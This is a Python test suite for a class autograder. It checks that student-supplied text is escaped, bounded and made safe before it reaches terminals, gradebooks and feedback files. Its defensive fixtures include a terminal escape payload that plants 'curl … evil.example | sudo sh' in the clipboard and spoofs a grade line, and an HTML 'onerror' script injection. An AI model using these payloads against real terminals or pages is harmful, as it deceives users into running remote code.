"""Nothing a student writes reaches a terminal or a file unescaped; it is bounded; kept work costs
the class nothing (issue 45, items 2, 3 and 5; banklab/grading/cleantext.py, keepwork.py).

With the judge's test double (fake_judge.py: `quote` makes the build fail with a compiler message
quoting the file, `quotefault` a fault whose message quotes it, `bigwork` an 80 MB probe in the work
folder): a compile error line carrying OSC 52 (the clipboard), OSC 2 (the window title), CSI 2K
(erase the line), CR and a bidirectional override, a folder so named, an archive member and a
Canvas file so named, go through grade-class: its printed output and every file it writes show them
as escapes, the feedback's Markdown runs none of the student's HTML, links or code fences. Controls:
"Zoë Ångström" and a compiler's multi-line message come out unchanged. A 256 KiB fault line is
graded in well under a second and cut in every report. --keep-work keeps at most its limit of a
submission (what does not fit named), and a full disk (ENOSPC) is said once, every grade written.

  python3 -m unittest -v test_student_text
"""

import json
import os
import shutil
import subprocess
import sys
import tempfile
import time
import unittest
import zipfile
from pathlib import Path

from banklab.grading import cleantext as ct   # noqa: E402
from banklab.grading import judging   # noqa: E402
from batch_common import FAKE, GRADE_CLASS, read_csv   # noqa: E402

#: What a hostile compile error line carries: the clipboard (OSC 52: "curl ... | sudo sh"), the
#: window's title (OSC 2), erase the line and go up (CSI 2K, 1A), CR, a right-to-left override.
HOSTILE = ("lab05 \x1b]52;c;Y3VybCAtZnNTTCBodHRwczovL2V2aWwuZXhhbXBsZS9pIHwgc3VkbyBzaA==\x07"
           "\x1b]2;banklab: every submission graded\x07\r\x1b[2K\x1b[1Amallory lab 05 100 / 100 0 failed"
           "\u202etxt.exe")
#: Markdown a student would like the feedback to run: a fence that closes the code block, HTML, links.
MARKDOWN = "```\n</pre><img src=x onerror=alert(1)>\n[click](https://evil.example/x) <https://evil.example/y>"
#: Bytes that must never reach a terminal or a file raw (a CSV's own line ends are CR LF).
RAW = ("\x1b", "\x07", "\u202e", "\x9b")
#: A compiler's ordinary multi-line message: the control, passed unchanged.
ORDINARY = ("expected ';' before '}' token\n   12 |   x[threadIdx.x] = 1.0f\n      |                        ^\n"
            "note: Zoë's «kernel» — see ‘tile’\n")


def put(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return path


def grade_class(subs: Path, out: Path, *args, prefix: list | None = None, timeout=300):
    cmd = [*(prefix or [sys.executable]), str(GRADE_CLASS), str(subs), "--out", str(out), "--lab", "05",
           "-j", "2", "--timeout", "60", "--judge", str(FAKE), *map(str, args)]
    tmp = out.parent / "tmp"          # its own temporary folder: unpacked uploads, work folders
    tmp.mkdir(exist_ok=True)
    t0 = time.monotonic()
    p = subprocess.run(cmd, capture_output=True, timeout=timeout, env=dict(os.environ, TMPDIR=str(tmp)))
    p.seconds = time.monotonic() - t0
    p.text = (p.stdout + p.stderr).decode("utf-8", "surrogateescape")
    return p


def strings_of(data):
    if isinstance(data, str):
        yield data
    elif isinstance(data, dict):
        for k, v in data.items():
            yield from strings_of(k)
            yield from strings_of(v)
    elif isinstance(data, list):
        for v in data:
            yield from strings_of(v)


def raw_in(text: str, csv_file: bool = False) -> list[str]:
    """The raw control characters in `text` (a CR only where it ends no CSV line)."""
    found = [repr(c) for c in RAW if c in text]
    if "\r" in (text.replace("\r\n", "") if csv_file else text):
        found.append("'\\r'")
    return found


def outside_code(md: str) -> list[str]:
    """The lines of a Markdown document outside its fenced code blocks (CommonMark's rule: a
    block opened by N backticks is closed only by a line of N or more backticks)."""
    out, fence = [], 0
    for line in md.split("\n"):
        s = line.lstrip(" ")
        ticks = len(s) - len(s.lstrip("`"))
        if not fence and ticks >= 3:
            fence = ticks
        elif fence and ticks >= fence and not s.strip("`").strip():
            fence = 0
        elif not fence:
            out.append(line)
    return out


class Run(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.tmp = Path(tempfile.mkdtemp(prefix="banklab-text-"))

    @classmethod
    def tearDownClass(cls):
        shutil.rmtree(cls.tmp, ignore_errors=True)

    def files_have_no_raw_text(self, out: Path):
        """Every file grade-class wrote: no raw control character (JSON: in none of its strings)."""
        seen = 0
        for f in sorted(out.rglob("*")):
            if not f.is_file():
                continue
            text = f.read_bytes().decode("utf-8", "surrogateescape")
            if f.suffix == ".json":
                text = "\n".join(strings_of(json.loads(text)))
            with self.subTest(file=str(f.relative_to(out))):
                self.assertEqual(raw_in(text, f.suffix == ".csv"), [])
            seen += 1
        return seen


class HostileTextIsShownAsEscapes(Run):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        s = cls.tmp / "subs"
        put(s / "mallory" / "kernel.cu", f"// FAKE-JUDGE: quotefault\nbwrap: Can't mount proc {HOSTILE}\n")
        put(s / "trudy" / "kernel.cu", f"// FAKE-JUDGE: quote\n{HOSTILE}\n{MARKDOWN}\n")
        put(s / "eve\x1b]2;all graded\x07\r\x1b[2K" / "kernel.cu", "// FAKE-JUDGE: solved\n")
        put(s / "Zoë Ångström" / "kernel.cu", f"// FAKE-JUDGE: quote\n{ORDINARY}")
        (s / "oscar").mkdir()
        with zipfile.ZipFile(s / "oscar" / "upload.zip", "w") as z:    # two .cu members: refused, named
            z.writestr("a.cu", "// FAKE-JUDGE: solved\n")
            z.writestr("lab05\r\x1b[2K\x1b]2;graded\x07.cu", "// FAKE-JUDGE: solved\n")
        # A Canvas export's flat files (uploads.py's "several .cu files" of one student's files).
        put(s / "peggy_1234_5678_lab05\r\x1b]2;graded\x07.cu", "// FAKE-JUDGE: solved\n")
        put(s / "peggy_1234_5679_lab05b.cu", "// FAKE-JUDGE: solved\n")
        put(s / "alice" / "kernel.cu", "// FAKE-JUDGE: solved\n")
        cls.out = cls.tmp / "out"
        cls.p = grade_class(s, cls.out)
        cls.book = {r["student"]: r for r in read_csv(cls.out / "gradebook.csv")}

    def test_the_terminal_gets_no_control_character(self):
        self.assertIn(self.p.returncode, (0, 4), self.p.text)      # 4: mallory's fault is not graded
        self.assertEqual(raw_in(self.p.text), [])
        self.assertIn("\\x1b]52;c;", self.p.text)                   # shown, as an escape
        self.assertIn("several .cu files", self.p.text)

    def test_no_file_written_holds_a_control_character(self):
        self.assertGreater(self.files_have_no_raw_text(self.out), 10)

    def test_names_are_escaped_in_the_gradebook(self):
        names = set(self.book)
        self.assertIn("eve\\x1b]2;all graded\\x07\\r\\x1b[2K", names)
        self.assertIn("Zoë Ångström", names)                          # the control: unchanged
        self.assertIn("lab05\\r\\x1b[2K\\x1b]2;graded\\x07.cu", self.book["oscar"]["not judged"])
        peggy = next(r for n, r in self.book.items() if n.startswith("peggy"))
        self.assertIn("several .cu files", peggy["not judged"])
        self.assertIn("lab05\\r\\x1b]2;graded\\x07.cu", peggy["not judged"])
        ng = {r["student"]: r for r in read_csv(self.out / "not-graded.csv")}
        self.assertIn("\\x1b]52;c;", ng["mallory"]["why"])

    def test_the_feedback_runs_no_html_link_or_fence_of_the_students(self):
        md = (self.out / "feedback" / "trudy.md").read_text(encoding="utf-8")
        self.assertIn("\\x1b]52;c;", md)
        self.assertIn("<img src=x onerror=alert(1)>", md)          # shown, inside the code block
        for line in outside_code(md):
            self.assertNotIn("<img", line)
            self.assertNotIn("[click]", line)
            self.assertNotIn("<https://", line)
        html = (self.out / "feedback" / "trudy.html").read_text(encoding="utf-8")
        self.assertNotIn("<img", html)

    def test_the_platform_files_show_the_escapes(self):
        gs = json.loads((self.out / "platforms" / "trudy" / "gradescope" / "results.json").read_text())
        build = next(t for t in gs["tests"] if t["name"].endswith("Build"))
        self.assertIn("\\x1b]52;c;", build["output"])
        # not graded: no results.json (Gradescope shows a failed run), the reason in not-graded.json
        gs = (self.out / "platforms" / "mallory" / "gradescope" / "not-graded.json").read_text()
        self.assertIn("\\\\x1b]2;banklab", gs)
        self.assertNotIn("\x1b", gs)

    def test_ordinary_text_passes_unchanged(self):
        gs = json.loads((self.out / "platforms" / "Zo%C3%AB%20%C3%85ngstr%C3%B6m" / "gradescope" /
                         "results.json").read_text(encoding="utf-8"))
        build = next(t for t in gs["tests"] if t["name"].endswith("Build"))
        self.assertIn(ORDINARY.rstrip(), build["output"])
        md = (self.out / "feedback" / "Zo%C3%AB%20%C3%85ngstr%C3%B6m.md").read_text(encoding="utf-8")
        self.assertIn("# Feedback for Zoë Ångström", md)
        self.assertIn(ORDINARY.rstrip(), md)
        self.assertIn("```text\nkernel.cu:2:1: error: expected ';'", md)      # the usual fence


class TheRuleItself(unittest.TestCase):
    """cleantext's rule on its own: each hostile character shown, ordinary text unchanged."""

    def test_each_control_is_shown_as_an_escape(self):
        self.assertEqual(ct.visible("a\x1b]52;c;eA==\x07b\r\x1b[2Kc\u202ed"),
                         "a\\x1b]52;c;eA==\\x07b\\r\\x1b[2Kc\\u202ed")
        self.assertEqual(ct.line("one\ntwo\tthree"), "one\\ntwo\\tthree")
        self.assertEqual(ct.visible("bad\udcffname"), "bad\\xffname")     # a byte that is not UTF-8
        # a C1 control as the judge's cleaner shows it too (grader/judge/clean_text.toml: \\uNNNN from U+0080)
        self.assertEqual(ct.visible("\x9b2K\u2028\ufeff\u2066"), "\\u009b2K\\u2028\\ufeff\\u2066")

    def test_ordinary_text_is_unchanged_and_cleaning_twice_is_once(self):
        for t in ("Zoë Ångström", "李雷", "O'Brien, Pat", "s05_hang", ORDINARY, "مهرداد\u200cی", "👩\u200d💻"):
            self.assertEqual(ct.visible(t), t)
            self.assertEqual(ct.message(t), t)
        self.assertEqual(ct.visible("line\r\nend\r\n"), "line\nend\n")      # a file saved on Windows
        for t in (HOSTILE, "\x1b" * 5000, "é" * 5000):
            self.assertEqual(ct.message(ct.message(t)), ct.message(t))
        for t in ("Zoë Ångström", "O'Brien, Pat", "s05_hang", "jo ann"):
            self.assertEqual(ct.md_text(t), t)

    def test_markdown_gets_no_html_link_or_fence(self):
        self.assertEqual(ct.md_text("<img src=x> [a](https://e.x) `c` www.e.x me@e.x | y"),
                         "\\<img src=x\\> \\[a\\](https\\://e.x) \\`c\\` www\\.e.x me\\@e.x \\| y")
        block = ct.md_code("a\n```\n<b>\n````")
        self.assertEqual(block[0], "`````text")
        self.assertEqual(outside_code("\n".join(block)), [])

    def test_a_message_is_cut_with_the_cut_said(self):
        m = ct.message("head " + "x" * 300_000 + " tail")
        self.assertLessEqual(len(m.encode()), ct.MESSAGE_LIMIT)
        self.assertTrue(m.startswith("head "))
        self.assertTrue(m.endswith(" tail"))
        self.assertRegex(m, r"\[cut: \d+ more bytes\]")
        self.assertEqual(ct.message("short"), "short")

    def test_the_watchdog_pattern_is_linear(self):
        line = "did not finish within 5 s " * 10_000 + "x" * 262_144        # no cause on the line
        t0 = time.monotonic()
        self.assertEqual(judging.lead_with_cause("a\n" + line), ct.message("a\n" + line))
        self.assertIsNone(judging._watchdog_line("x\n" + line))
        self.assertIsNone(judging._watchdog_line("xdid not finish within 5 s " * 10_000 + "x" * 262_144))   # no word start
        self.assertIsNone(judging._watchdog_line("did not finish within s " * 10_000 + "x" * 262_144))      # no number
        self.assertLess(time.monotonic() - t0, 0.5)
        found = judging._watchdog_line("log\nkernel did not finish within 5 s: a loop in the kernel never ends\nz")
        self.assertEqual(found, (4, "kernel did not finish within 5 s: a loop in the kernel never ends"))
        self.assertIsNone(judging._watchdog_line("xdid not finish within 5 s: a loop in the kernel never ends"))


class ALongLineIsCutEverywhere(Run):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        s = cls.tmp / "subs"
        put(s / "fault" / "kernel.cu", "// FAKE-JUDGE: quotefault\nbwrap: Can't mount proc " + "A" * 262_144 + "\n")
        put(s / "error" / "kernel.cu", "// FAKE-JUDGE: quote\n#error " + " " * 262_144 + "x\n")
        put(s / "alice" / "kernel.cu", "// FAKE-JUDGE: solved\n")
        cls.out = cls.tmp / "out"
        cls.p = grade_class(s, cls.out, timeout=120)

    def test_it_is_graded_in_well_under_a_second(self):
        self.assertEqual(self.p.returncode, 4, self.p.text)        # the fault is not graded (its own issue)
        for st in ("fault", "error"):
            r = json.loads((self.out / "results" / st / "lab05.json").read_text())
            self.assertLess(r["seconds"], 5.0)                      # the judge double's own start included
        t0 = time.monotonic()
        judging.lead_with_cause("bwrap: " + "A" * 262_144)
        self.assertLess(time.monotonic() - t0, 0.25)

    def test_every_report_is_cut_and_bounded(self):
        for name in ("gradebook.csv", "not-graded.csv", "results.csv", "platforms/fault/gradescope/not-graded.json",
                     "feedback/fault.md", "feedback/error.md", "platforms/error/gradescope/results.json",
                     "platforms/error/junit.xml", "feedback/error.html"):
            text = (self.out / name).read_text(encoding="utf-8")
            with self.subTest(file=name):
                self.assertLess(len(text.encode()), 32 * 1024)
                self.assertRegex(text, r"\[cut: \d+ more bytes\]")
        for f in self.out.rglob("*"):
            if f.is_file():
                self.assertLess(f.stat().st_size, 64 * 1024, f)


#: grade-class with every copy into OUT/work failing as a full disk does (ENOSPC).
FULL_DISK = """import errno, runpy, shutil, sys
work = sys.argv.pop(1)
real = shutil.copyfile
def full(src, dst, *a, **k):
    if str(dst).startswith(work):
        raise OSError(errno.ENOSPC, "No space left on device", str(dst))
    return real(src, dst, *a, **k)
shutil.copyfile = full
sys.argv.pop(0)
runpy.run_path(sys.argv[0], run_name="__main__")
"""


class KeptWorkCostsTheClassNothing(Run):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        s = cls.tmp / "subs"
        put(s / "alice" / "kernel.cu", "// FAKE-JUDGE: bigwork\n")
        put(s / "bob" / "kernel.cu", "// FAKE-JUDGE: solved\n")
        put(s / "carol" / "kernel.cu", "// FAKE-JUDGE: solved\n")
        cls.subs = s

    def test_a_submission_is_kept_within_its_limit_and_what_does_not_fit_is_named(self):
        out = self.tmp / "kept"
        p = grade_class(self.subs, out, "--keep-work")
        self.assertEqual(p.returncode, 0, p.text)
        alice = out / "work" / "alice" / "lab05"
        self.assertTrue((alice / "kernel.cu").is_file())
        self.assertTrue((alice / "judge" / "probe.log").is_file())
        self.assertFalse((alice / "judge" / "probe").exists())
        self.assertIn("judge/probe (80.0 MB)", (alice / "NOT-KEPT.txt").read_text())
        self.assertFalse((out / "work" / "bob" / "lab05" / "NOT-KEPT.txt").exists())
        self.assertTrue((out / "work" / "bob" / "lab05" / "kernel.cu").is_file())
        book = {r["student"]: r for r in read_csv(out / "gradebook.csv")}
        self.assertIn("work folder kept in part", book["alice"]["not judged"])
        self.assertIn("judge/probe", book["alice"]["not judged"])
        self.assertEqual(book["bob"]["not judged"], "")
        self.assertEqual(book["alice"]["total"], book["bob"]["total"])      # the grade is untouched

    def test_a_full_disk_is_said_once_and_every_grade_is_written(self):
        out = self.tmp / "full"
        wrap = put(self.tmp / "full_disk.py", FULL_DISK)
        p = grade_class(self.subs, out, "--keep-work", prefix=[sys.executable, str(wrap), str(out / "work")])
        self.assertEqual(p.returncode, 0, p.text)
        self.assertEqual(p.text.count("is full"), 1, p.text)
        self.assertIn("the grader's problem, not a student's", p.text)
        book = {r["student"]: r for r in read_csv(out / "gradebook.csv")}
        self.assertEqual(set(book), {"alice", "bob", "carol"})
        for st, row in book.items():
            self.assertNotEqual(row["total"], "", st)
            self.assertIn("work folder not kept: the disk of the output folder is full", row["not judged"])
        self.assertTrue((out / "lms.csv").is_file())
        self.assertTrue((out / "results.csv").is_file())
        self.assertEqual([p_ for p_ in (out / "work").rglob("*") if p_.is_file()], [])   # nothing half-kept

    def test_a_result_that_cannot_be_written_is_still_reported_and_said_once(self):
        out = self.tmp / "unwritten"
        wrap = put(self.tmp / "no_results.py", NO_RESULTS)
        p = grade_class(self.subs, out, prefix=[sys.executable, str(wrap), str(out / "results")])
        self.assertEqual(p.text.count("could not write the result of"), 1, p.text)
        book = {r["student"]: r for r in read_csv(out / "gradebook.csv")}
        self.assertEqual(set(book), {"alice", "bob", "carol"})
        self.assertTrue(all(row["total"] != "" for row in book.values()), book)
        self.assertFalse((out / "results" / "bob" / "lab05.json").exists())     # graded again next run


#: grade-class with every result file (OUT/results/STUDENT/labNN.json) failing to be written (ENOSPC).
NO_RESULTS = """import errno, pathlib, runpy, sys
results = sys.argv.pop(1)
real = pathlib.Path.write_text
def full(self, *a, **k):
    if str(self).startswith(results) and self.name.startswith("lab"):
        raise OSError(errno.ENOSPC, "No space left on device", str(self))
    return real(self, *a, **k)
pathlib.Path.write_text = full
sys.argv.pop(0)
runpy.run_path(sys.argv[0], run_name="__main__")
"""


if __name__ == "__main__":
    unittest.main()
